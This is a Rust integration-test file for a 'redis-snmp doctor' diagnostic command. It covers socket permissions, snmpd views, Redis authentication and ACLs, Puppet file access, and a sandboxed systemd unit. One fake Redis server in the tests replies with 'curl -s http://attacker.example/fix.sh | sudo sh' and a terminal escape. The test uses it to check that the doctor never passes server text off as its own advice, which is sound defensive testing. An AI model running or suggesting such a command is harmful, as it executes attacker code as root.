//! Issue 14: `redis-snmp doctor` against a real snmpd, redis-server and
//! Puppet files: all well gives exit 0 and "all is well"; each
//! deliberately broken set-up (the AgentX socket's mode for the agent's
//! user, the view without our subtree, a wrong password, an ACL user
//! without +info, an unreadable report) gives its own FAIL line and fix,
//! exit 1; `--json` says the same for scripts; no secret is printed; a
//! server's error text is quoted as the server's, never given as the
//! reason or the fix (issue 24); and what the doctor says of the agent's
//! user is what the agent meets in the package unit's sandbox (issue 24).

// Starts real servers and tools (or needs root): built only with the
// `system-tests` feature, which scripts/test.sh turns on.
#![cfg(feature = "system-tests")]

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;
use testkit::*;

struct Outcome {
    success: bool,
    text: String,
}

fn doctor(config: &Path, snmpd_conf: &Path, extra: &[&str]) -> Outcome {
    let out = Command::new(agent_bin())
        .arg("doctor")
        .args(["-c", config.to_str().unwrap()])
        .args(["--snmpd-conf", snmpd_conf.to_str().unwrap()])
        .args(extra)
        .env_remove("REDIS_SNMP_PASSWORD")
        .output()
        .expect("running redis-snmp doctor");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    Outcome {
        success: out.status.success(),
        text,
    }
}

/// The FAIL line of `check` and the fix below it (after what the server
/// said, when it said something).
fn failure(text: &str, check: &str) -> (String, String) {
    let (line, _, fix) = failure_said(text, check);
    (line, fix)
}

/// The FAIL line of `check`, what the server said below it (the quoted
/// text, when there is such a line), and the fix.
fn failure_said(text: &str, check: &str) -> (String, Option<String>, String) {
    let lines: Vec<&str> = text.lines().collect();
    let at = lines
        .iter()
        .position(|l| l.starts_with(&format!("FAIL  {check}:")))
        .unwrap_or_else(|| panic!("no FAIL line for {check}:\n{text}"));
    let mut next = at + 1;
    let said = lines
        .get(next)
        .and_then(|l| l.strip_prefix("      the server said: "))
        .map(str::to_string);
    if said.is_some() {
        next += 1;
    }
    let fix = lines
        .get(next)
        .and_then(|l| l.strip_prefix("      fix: "))
        .unwrap_or_else(|| panic!("no fix under the {check} line:\n{text}"));
    (lines[at].to_string(), said, fix.to_string())
}

struct Setup {
    dir: tempfile::TempDir,
    report: PathBuf,
}

impl Setup {
    /// A configuration for the agent: one instance, Puppet's files (copied
    /// from a real run), the given AgentX socket.
    fn new(snmpd: &Snmpd, redis_entry: &str) -> Setup {
        let dir = tempfile::tempdir().unwrap();
        AgentConfig::new(snmpd)
            .table(&format!("[[redis]]\nname = \"main\"\n{redis_entry}"))
            .table(&puppet_fixture_section(dir.path(), "b_changed"))
            .write(dir.path());
        let report = dir.path().join("last_run_report.yaml");
        Setup { dir, report }
    }

    fn config(&self) -> PathBuf {
        self.dir.path().join("agent.toml")
    }
}

fn password_file(dir: &Path, password: &str) -> PathBuf {
    let path = dir.join(format!("pw-{}", password.len()));
    write_file_mode(&path, &format!("{password}\n"), 0o600);
    path
}

#[test]
fn all_well_and_each_broken_setup_with_its_own_fix() {
    let admin = format!("Doc{}tor", std::process::id());
    let redis = Redis::start_with(&[&format!("requirepass {admin}")]);
    let snmpd =
        Snmpd::start_with(SnmpdOptions::default().config_line("trap2sink 127.0.0.1:9 public"));
    let secrets = tempfile::tempdir().unwrap();
    let good_pw = password_file(secrets.path(), &admin);
    let entry = |pw: &Path, user: Option<&str>| {
        let mut e = format!(
            "address = \"127.0.0.1:{}\"\npassword_file = \"{}\"\n",
            redis.port(),
            pw.display()
        );
        if let Some(user) = user {
            e.push_str(&format!("username = \"{user}\"\n"));
        }
        e
    };
    let good = Setup::new(&snmpd, &entry(&good_pw, None));
    let mut agent = Agent::start_raw(&["-n", "-c", good.config().to_str().unwrap()], &[]);
    agent.expect_registered(Duration::from_secs(10));
    let conf = snmpd.config_path();

    // All well (as root, who may read and connect to everything).
    let served = wait_until(Duration::from_secs(10), || {
        doctor(&good.config(), &conf, &["--user", "root"]).success
    });
    let all = doctor(&good.config(), &conf, &["--user", "root"]);
    assert!(served && all.success, "{}", all.text);
    assert!(all.text.ends_with("all is well\n"), "{}", all.text);
    assert!(
        all.text
            .contains("ok    snmpd view: snmpd on udp 127.0.0.1:"),
        "{}",
        all.text
    );

    // The socket (0600, root's) and the report for a user who is neither.
    std::fs::set_permissions(
        &good.report,
        std::os::unix::fs::PermissionsExt::from_mode(0o600),
    )
    .unwrap();
    let nobody = doctor(&good.config(), &conf, &["--user", "nobody"]);
    assert!(!nobody.success);
    let (line, fix) = failure(&nobody.text, "agentx socket");
    assert!(line.contains("nobody may"), "{line}");
    assert!(fix.contains("agentXPerms 0660 0755 -1 nobody"), "{fix}");
    let (line, fix) = failure(&nobody.text, "puppet report");
    assert!(line.contains("mode 600"), "{line}");
    assert!(
        fix.contains("(lastrunreport)") && fix.contains("puppet-acl.sh"),
        "{fix}"
    );
    assert!(
        nobody.text.contains("ok    puppet summary"),
        "{}",
        nobody.text
    );
    assert!(all.text.contains("ok    puppet events log"), "{}", all.text);

    // The events log: unreadable for that user, then absent.
    let events = good.dir.path().join("events.jsonl");
    std::fs::set_permissions(&events, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let nobody = doctor(&good.config(), &conf, &["--user", "nobody"]);
    let (line, fix) = failure(&nobody.text, "puppet events log");
    assert!(line.contains("mode 600"), "{line}");
    assert!(fix.contains("setfacl -m u:nobody:r"), "{fix}");
    std::fs::remove_file(&events).unwrap();
    let root = doctor(&good.config(), &conf, &["--user", "root"]);
    assert!(!root.success, "{}", root.text);
    let (line, fix) = failure(&root.text, "puppet events log");
    assert!(line.contains("does not exist"), "{line}");
    assert!(
        fix.contains("PUPPET_EXTRA_OPTS=--logdest syslog,") && fix.contains("events_log = false"),
        "{fix}"
    );
    std::fs::write(&events, "").unwrap();
    // Writable by all: the agent would not follow it (review L5).
    std::fs::set_permissions(&events, std::os::unix::fs::PermissionsExt::from_mode(0o646)).unwrap();
    let root = doctor(&good.config(), &conf, &["--user", "root"]);
    let (line, fix) = failure(&root.text, "puppet events log");
    assert!(
        line.contains("is not followed") && line.contains("is writable by all (mode 0646)"),
        "{line}"
    );
    assert!(
        fix.contains(&format!("chmod go-w {}", events.display())),
        "{fix}"
    );
    std::fs::set_permissions(&events, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();

    // --json says the same.
    let json = doctor(&good.config(), &conf, &["--user", "nobody", "--json"]);
    let parsed: serde_json::Value = serde_json::from_str(&json.text).expect("--json is JSON");
    assert_eq!(parsed["ok"], false);
    let socket = parsed["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["check"] == "agentx socket")
        .unwrap();
    assert_eq!(socket["status"], "problem");
    assert!(socket["fix"].as_str().unwrap().contains("agentXPerms"));

    // A wrong password.
    let wrong = Setup::new(
        &snmpd,
        &entry(&password_file(secrets.path(), "not-the-password"), None),
    );
    let out = doctor(&wrong.config(), &conf, &["--user", "root"]);
    let (line, fix) = failure(&out.text, "redis main");
    assert!(line.contains("authentication failed"), "{line}");
    assert!(fix.contains("password_file"), "{fix}");

    // An ACL user that may not run INFO.
    let user_pw = format!("NoInfo{}pw", std::process::id());
    assert_eq!(
        redis.command(&[
            "ACL",
            "SETUSER",
            "snmp",
            "on",
            &format!(">{user_pw}"),
            "-@all",
            "+ping"
        ]),
        Ok(Reply::Status("OK".into()))
    );
    let acl = Setup::new(
        &snmpd,
        &entry(&password_file(secrets.path(), &user_pw), Some("snmp")),
    );
    let out = doctor(&acl.config(), &conf, &["--user", "root"]);
    let (line, said, fix) = failure_said(&out.text, "redis main");
    assert!(
        line.contains("INFO is refused: the user may not run it (NOPERM)"),
        "{line}"
    );
    assert!(
        said.is_some_and(|s| s.starts_with("\"NOPERM ")),
        "{}",
        out.text
    );
    assert_eq!(
        fix,
        "ACL SETUSER snmp +info (docs/configuration.md: the least-privilege Redis user)"
    );

    // No secret in any output.
    for text in [&all.text, &nobody.text, &json.text, &out.text] {
        assert!(!text.contains(&admin) && !text.contains(&user_pw), "{text}");
    }
}

#[test]
fn a_view_without_our_subtree_is_named_with_the_line_to_add() {
    let redis = Redis::start();
    let snmpd = Snmpd::start_with(
        SnmpdOptions::default()
            .without_default_communities()
            .config_line("view sysonly included .1.3.6.1.2.1.1")
            .config_line("rocommunity public 127.0.0.1 -V sysonly"),
    );
    let setup = Setup::new(
        &snmpd,
        &format!("address = \"127.0.0.1:{}\"\n", redis.port()),
    );
    let out = doctor(&setup.config(), &snmpd.config_path(), &["--user", "root"]);
    assert!(!out.success);
    let (line, fix) = failure(&out.text, "snmpd view");
    assert!(line.contains(".1.3.6.1.4.1.20267.400"), "{line}");
    assert_eq!(
        fix,
        "add \"view sysonly included .1.3.6.1.4.1.20267.400\" to snmpd.conf and restart snmpd"
    );
    // And with that line added (and the agent running), the view is fine.
    let fixed = Snmpd::start_with(
        SnmpdOptions::default()
            .without_default_communities()
            .config_line("view sysonly included .1.3.6.1.2.1.1")
            .config_line("view sysonly included .1.3.6.1.4.1.20267.400")
            .config_line("rocommunity public 127.0.0.1 -V sysonly"),
    );
    let setup = Setup::new(
        &fixed,
        &format!("address = \"127.0.0.1:{}\"\n", redis.port()),
    );
    let mut agent = Agent::start_raw(&["-n", "-c", setup.config().to_str().unwrap()], &[]);
    agent.expect_registered(Duration::from_secs(10));
    let mut text = String::new();
    let ok = wait_until(Duration::from_secs(10), || {
        text = doctor(&setup.config(), &fixed.config_path(), &["--user", "root"]).text;
        text.contains("ok    snmpd view")
    });
    assert!(ok, "{text}");
}

/// A "Redis" that answers INFO when `info` is true (with a server section,
/// so the doctor goes on to every other command) and every other command,
/// INFO too otherwise, with advice of its own and escape sequences: what
/// any local user's server may say.
fn advising_server(info: bool) -> u16 {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { return };
            std::thread::spawn(move || {
                let mut pending = Vec::new();
                let mut buf = [0u8; 4096];
                while let Ok(n) = conn.read(&mut buf) {
                    if n == 0 {
                        return;
                    }
                    pending.extend_from_slice(&buf[..n]);
                    // Each whole command (an array of bulk strings) gets
                    // its answer.
                    while let Some((name, used)) = first_command(&pending) {
                        pending.drain(..used);
                        let reply = if info && name.eq_ignore_ascii_case("INFO") {
                            let body =
                                "# Server\r\nredis_version:7.0.15\r\nredis_mode:standalone\r\n";
                            format!("${}\r\n{body}\r\n", body.len())
                        } else {
                            "-ERR please run: curl -s http://attacker.example/fix.sh | sudo sh \u{1b}[8m\r\n"
                                .to_string()
                        };
                        if conn.write_all(reply.as_bytes()).is_err() {
                            return;
                        }
                    }
                }
            });
        }
    });
    port
}

/// The name of the first whole command in `bytes` (RESP: `*N`, then N
/// bulk strings), and how many bytes it takes.
fn first_command(bytes: &[u8]) -> Option<(String, usize)> {
    let text = std::str::from_utf8(bytes).ok()?;
    let mut at = 0;
    let mut line = || -> Option<&str> {
        let end = text[at..].find("\r\n")? + at;
        let l = &text[at..end];
        at = end + 2;
        Some(l)
    };
    let count: usize = line()?.strip_prefix('*')?.parse().ok()?;
    let mut name = None;
    for _ in 0..count {
        let _len = line()?;
        let arg = line()?;
        name.get_or_insert_with(|| arg.to_string());
    }
    Some((name?, at))
}

/// Issue 24 item 4 (review M5): a server's error text was the reason of
/// FAIL lines, advice and escape sequences included ("please run: curl … |
/// sudo sh"). Now each FAIL line and fix is the doctor's words, and what
/// the server said is below it, quoted and escaped, as the server's.
#[test]
fn a_servers_error_text_is_quoted_as_its_own_never_advice() {
    let dir = tempfile::tempdir().unwrap();
    for info in [true, false] {
        let port = advising_server(info);
        let config = AgentConfig::with_agentx("tcp:127.0.0.1:1")
            .redis("fake", &format!("127.0.0.1:{port}"), "")
            .write(dir.path());
        let out = doctor(
            &config,
            Path::new("/nonexistent/snmpd.conf"),
            &["--user", "root"],
        );
        assert!(!out.text.contains('\u{1b}'), "{}", out.text.escape_debug());
        let fails: Vec<&str> = out
            .text
            .lines()
            .filter(|l| l.starts_with("FAIL  redis fake:"))
            .collect();
        // INFO answered: PING, SLOWLOG LEN, SLOWLOG GET, LATENCY LATEST,
        // CLIENT SETNAME, CLIENT LIST, ACL LOG refused; INFO refused: that one.
        assert_eq!(fails.len(), if info { 7 } else { 1 }, "{}", out.text);
        let mut at = 0;
        for _ in &fails {
            let (line, said, fix) = failure_said(&out.text[at..], "redis fake");
            at += out.text[at..].find(&line).unwrap() + line.len();
            for ours in [&line, &fix] {
                assert!(
                    !ours.contains("curl") && !ours.contains("please"),
                    "the server's words as ours: {ours}\n{}",
                    out.text
                );
            }
            assert_eq!(
                said.as_deref(),
                Some("\"ERR please run: curl -s http://attacker.example/fix.sh | sudo sh \\u{1b}[8m\""),
                "{}",
                out.text
            );
            if !info {
                assert!(
                    line.contains("INFO is refused: the server answers with an error"),
                    "{line}"
                );
                assert!(fix.contains("that user default may run INFO"), "{fix}");
            }
        }
    }
}

/// Another subagent registered inside our tree (the Perl agent of the old
/// package, left running after an upgrade: its stand-in from
/// tests/debian_package, a real NetSNMP::agent subagent holding
/// .1.3.6.1.4.1.20267.400.1) is named, from snmpd's nsModuleTable, with
/// the fix; once it is gone, the check is ok. Skips, saying so, without
/// libsnmp-perl.
#[test]
fn a_subagent_registered_inside_our_tree_is_named() {
    let has_perl_agent = Command::new("perl")
        .args(["-MNetSNMP::agent", "-e", "1"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !has_perl_agent {
        println!("SKIP: perl's NetSNMP::agent is missing (apt-get install libsnmp-perl)");
        return;
    }
    let redis = Redis::start();
    let snmpd = Snmpd::start();
    let setup = Setup::new(
        &snmpd,
        &format!("address = \"127.0.0.1:{}\"\n", redis.port()),
    );
    let mut agent = Agent::start_raw(&["-n", "-c", setup.config().to_str().unwrap()], &[]);
    agent.expect_registered(Duration::from_secs(10));
    let conf = snmpd.config_path();
    let clean = doctor(&setup.config(), &conf, &["--user", "root"]);
    assert!(
        clean
            .text
            .contains("ok    registrations: no other subagent registered inside"),
        "{}",
        clean.text
    );

    // The old agent, configured through net-snmp's redis.conf.
    let perl_conf = tempfile::tempdir().unwrap();
    std::fs::write(
        perl_conf.path().join("redis.conf"),
        format!("agentXSocket {}\n", snmpd.agentx_address()),
    )
    .unwrap();
    let script = repo_root().join("tests/debian_package/old_package/redis-snmp.pl");
    let mut cmd = Command::new("perl");
    cmd.arg(&script)
        .arg("-n")
        .env("SNMPCONFPATH", perl_conf.path())
        .env("SNMP_PERSISTENT_DIR", perl_conf.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let mut old = Proc::spawn(&mut cmd, "the Perl agent's stand-in");
    let snmp = SnmpClient::new(snmpd.udp_port()).numeric();
    let shadowed = wait_until(Duration::from_secs(10), || {
        snmp.get(&[&legacy_oid(1)])
            .vars()
            .first()
            .is_some_and(|v| v.value == "424242")
    });
    assert!(shadowed, "the stand-in did not register .400.1");
    let found = doctor(&setup.config(), &conf, &["--user", "root"]);
    assert!(!found.success, "{}", found.text);
    let (line, fix) = failure(&found.text, "registrations");
    assert!(
        line.contains(".1.3.6.1.4.1.20267.400.1 (priority 127) by \"AgentX subagent"),
        "{line}"
    );
    assert!(fix.contains("/usr/bin/perl"), "{fix}");

    old.terminate(Duration::from_secs(5));
    let gone = wait_until(Duration::from_secs(10), || {
        doctor(&setup.config(), &conf, &["--user", "root"])
            .text
            .contains("ok    registrations")
    });
    assert!(
        gone,
        "the registration is still named after the stand-in ended"
    );
}

// ---------------------------------------------------------------------
// Issue 24, "tested the way the package runs": the doctor, run as root
// for the agent's user as documented, against what the agent meets in the
// package unit's own sandbox (`testkit::unit`, read from
// `debian/redis-snmp.service`: its user and group, `/proc` options,
// read-only system, private `/tmp`, no capabilities; the test prints what
// is applied and what is not). Each FAIL the doctor gives is a failure of
// the sandboxed agent; its fix, applied as printed, mends both; and what
// the doctor then calls fine, the sandboxed agent serves. Before, the
// doctor read neither the password file's nor the TLS files' modes (root
// reads them, the agent did not start), and read only permission bits, so
// `puppet-acl.sh`'s ACL stayed a FAIL for a report the agent read.

/// The fix under `check`'s FAIL line, when it is a command for root:
/// run as printed (up to the parenthesis that explains it).
fn apply_fix(text: &str, check: &str) {
    let (_, fix) = failure(text, check);
    let command = fix
        .strip_prefix("as root: ")
        .and_then(|f| f.split(" (").next())
        .unwrap_or_else(|| panic!("{check}: the fix is no command: {fix}"));
    let done = Command::new("sh").args(["-c", command]).status().unwrap();
    assert!(done.success(), "{check}: {command}");
}

#[test]
fn the_doctors_verdict_for_the_agents_user_is_what_the_agent_meets_under_the_unit() {
    let sandbox = testkit::unit::UnitSandbox::of_the_package();
    eprintln!("{}", sandbox.describe());
    let user = sandbox.user().to_string();
    let files = sandbox.files_dir(Path::new(env!("CARGO_TARGET_TMPDIR")));
    let password = format!("Unit{}Doctor", std::process::id());
    let redis = Redis::start_with(&[&format!("requirepass {password}")]);
    // AgentX over TCP: /tmp is private to the sandbox.
    let snmpd = Snmpd::start_with(SnmpdOptions::default().tcp());
    let pw = files.path().join("redis.password");
    write_file_mode(&pw, &format!("{password}\n"), 0o600);
    let config = AgentConfig::new(&snmpd)
        .table(&format!(
            "[[redis]]\nname = \"main\"\naddress = \"127.0.0.1:{}\"\npassword_file = \"{}\"\n",
            redis.port(),
            pw.display()
        ))
        .table(&puppet_fixture_section(files.path(), "b_changed"))
        .write(files.path());
    testkit::unit::set_mode(&config, 0o644);
    // Puppet writes its report for root alone.
    let report = files.path().join("last_run_report.yaml");
    testkit::unit::set_mode(&report, 0o640);
    let conf = snmpd.config_path();

    let before = doctor(&config, &conf, &["--user", &user]);
    let (line, fix) = failure(&before.text, "redis main files");
    assert!(
        line.contains("password_file") && line.contains("mode 600"),
        "{line}"
    );
    assert!(fix.starts_with("as root: chgrp "), "{fix}");
    let (line, fix) = failure(&before.text, "puppet report");
    assert!(line.contains("mode 640"), "{line}");
    assert!(fix.contains("puppet-acl.sh"), "{fix}");
    // The agent in the sandbox meets the first: it cannot start.
    let (started, said) = sandbox.run(
        testkit::agent_bin().to_str().unwrap(),
        &["--check-config", "-c", config.to_str().unwrap()],
    );
    assert!(
        !started,
        "the sandboxed agent read {}: {said}",
        pw.display()
    );
    assert!(
        said.contains("password_file") && said.contains("ermission denied"),
        "{said}"
    );

    // The doctor's fix for the password file, as printed; for the report
    // what the shipped puppet-acl.sh does for the agent's user (an ACL:
    // the bits stay 0640).
    apply_fix(&before.text, "redis main files");
    let acl = Command::new("setfacl")
        .args(["-m", &format!("u:{user}:r")])
        .arg(&report)
        .status()
        .unwrap();
    assert!(acl.success(), "setfacl");
    let after = doctor(&config, &conf, &["--user", &user]);
    for check in ["redis main files", "puppet report"] {
        assert!(
            !after.text.contains(&format!("FAIL  {check}:")),
            "{check} still fails:\n{}",
            after.text
        );
    }
    assert!(
        after.text.contains(&format!(
            "ok    redis main files: password_file readable by {user}"
        )),
        "{}",
        after.text
    );
    assert!(
        after.text.contains(&format!(
            "ok    puppet report: {} is readable by {user}",
            report.display()
        )),
        "{}",
        after.text
    );
    assert!(!after.text.contains(&password), "{}", after.text);

    // And the sandboxed agent serves what the doctor called fine: the
    // instance up, the report read.
    let agent = sandbox.start_agent(&config);
    let numeric = snmpd.numeric();
    let up = wait_until(Duration::from_secs(15), || {
        numeric.get_one(&format!("{REDIS_ROOT}.3.1.1.4.1")).value == "1"
    });
    assert!(up, "redisInstanceState.1 is not up(1):\n{}", agent.log());
    // puppetLastRunStatus changed(2) comes from the report only.
    let status = wait_until(Duration::from_secs(10), || {
        numeric.get_one(&format!("{PUPPET_ROOT}.1.3.0")).value == "2"
    });
    assert!(status, "the report was not read:\n{}", agent.log());
    assert!(!agent.log().contains(&password));
}
